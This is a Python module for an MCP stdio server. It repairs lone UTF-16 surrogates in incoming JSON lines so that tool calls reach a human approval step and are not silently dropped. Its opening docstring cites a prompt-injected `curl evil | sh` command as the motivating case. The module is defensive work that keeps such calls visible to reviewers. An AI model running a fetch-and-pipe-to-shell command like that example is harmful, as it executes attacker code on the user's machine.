"""stdin for the MCP stdio servers, with lone UTF-16 surrogates repaired before the SDK reads it.

Node's `JSON.stringify` writes a lone surrogate as `"\\ud800"`: valid JSON text, but
not valid Unicode, and the SDK's parser (pydantic) rejects the whole line and drops it
without an answer — the caller would wait for a reply that never comes. A prompt-injected
`curl evil | sh # \\ud800` must get a decision instead, so such a line is read with
Python's `json` (which accepts them), each lone surrogate becomes U+FFFD, and the SDK gets
that line: the reviewer sees the call with `�`, and an approval applies to exactly that.
`/mcp` (`bot/mcp/http.py`) passes request bodies through `repair_line` the same way.
"""

from __future__ import annotations

import io
import json
import re
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any, cast

import anyio
from mcp.server.stdio import stdio_server

#: A JSON escape of a UTF-16 surrogate (`\ud800`-`\udfff`): the only way one reaches us.
_SURROGATE_ESCAPE = re.compile(r"\\u[dD][89a-fA-F][0-9a-fA-F]{2}")


def _repaired(value: Any) -> Any:
    if isinstance(value, str):
        return value.encode("utf-16", "surrogatepass").decode("utf-16", "replace")
    if isinstance(value, list):
        return [_repaired(v) for v in value]
    if isinstance(value, dict):
        return {_repaired(k): _repaired(v) for k, v in value.items()}
    return value


def repair_line(line: str) -> str:
    """`line` with every lone surrogate in its JSON strings replaced by U+FFFD (unchanged
    when it has none, or is not JSON: the SDK reports that)."""
    if not _SURROGATE_ESCAPE.search(line):
        return line
    try:
        data = json.loads(line)
    except ValueError:
        return line
    return json.dumps(_repaired(data), ensure_ascii=False) + "\n"


class _RepairedLines:
    """`async for line in …` over a text stream, each line through `repair_line`."""

    def __init__(self, stream: Any) -> None:
        self._stream = stream

    def __aiter__(self) -> AsyncIterator[str]:
        return self._lines()

    async def _lines(self) -> AsyncIterator[str]:
        async for line in self._stream:
            yield repair_line(line)


@asynccontextmanager
async def repaired_stdio_server() -> AsyncIterator[Any]:
    """The SDK's `stdio_server` reading this process's stdin through `repair_line`."""
    text = io.TextIOWrapper(sys.stdin.buffer, encoding="utf-8", errors="replace")
    stdin = cast(anyio.AsyncFile[str], _RepairedLines(anyio.wrap_file(text)))
    async with stdio_server(stdin=stdin) as streams:
        yield streams
